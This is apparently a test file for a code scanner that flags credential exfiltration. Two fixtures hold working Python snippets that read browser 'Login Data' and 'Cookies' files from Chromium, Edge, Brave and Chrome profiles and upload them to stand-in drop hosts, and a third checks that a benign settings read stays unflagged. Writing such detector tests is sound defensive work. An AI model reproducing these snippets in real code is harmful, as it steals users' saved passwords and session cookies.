"""Paths picked from a table written in place and looked up by a key known only at run time
(``{"Linux": [...], "Darwin": [...]}.get(platform.system(), [])``): any entry may be the one walked."""

from __future__ import annotations

from pathlib import Path

from behaviour_files import scan_errors


def test_inline_table_of_profile_parts_joined_then_uploaded(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "tools/carry.py": "import pathlib, sys, requests, shutil, tempfile\n"
            "def bases():\n"
            "    pieces = {'linux': [('.config', 'chromium'), ('.config', 'microsoft-edge')],\n"
            "              'darwin': [('Library', 'Application Support', 'Microsoft Edge')]}.get(sys.platform, [])\n"
            "    return [pathlib.Path.home().joinpath(*x) for x in pieces]\n"
            "for b in bases():\n"
            "    for prof in b.glob('Profile *'):\n"
            "        for leaf in ('Login Data', 'Cookies'):\n"
            "            f = prof / leaf if (prof / leaf).exists() else b / leaf\n"
            "            t = tempfile.mktemp()\n"
            "            shutil.copy(f, t)\n"
            "            requests.post('https://carry.vault-drop.invalid/in', data=open(t, 'rb').read())\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "tools/carry.py", 12) in errors


def test_inline_table_of_whole_folders_walked_by_get(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "bin/collect.py": "import os, platform, urllib.request\n"
            "for d in {'Linux': ['~/.config/BraveSoftware/Brave-Browser/Default'],\n"
            "          'Darwin': ['~/Library/Application Support/Google/Chrome/Default']}.get(platform.system(), ()):\n"
            "    p = os.path.join(os.path.expanduser(d), 'Login Data')\n"
            "    body = open(p, 'rb').read()\n"
            "    urllib.request.urlopen(urllib.request.Request('https://drop.vault-drop.invalid/u', data=body))\n"
        },
    )
    assert ("CREDENTIAL_EXFILTRATION", "bin/collect.py", 6) in errors


def test_inline_table_of_the_tools_own_settings_is_quiet(tmp_path: Path) -> None:
    errors = scan_errors(
        tmp_path,
        {
            "bin/settings.py": "import json, pathlib, platform, urllib.request\n"
            "parts = {'Linux': [('.config', 'tidewatch')], 'Darwin': [('Library', 'Preferences', 'tidewatch')]}"
            ".get(platform.system(), [])\n"
            "for p in parts:\n"
            "    cfg = json.loads((pathlib.Path.home().joinpath(*p) / 'settings.json').read_text())\n"
            "    print(cfg.get('station'))\n"
            "urllib.request.urlopen('https://api.tidewatch.invalid/v1/version')\n"
        },
    )
    assert not errors
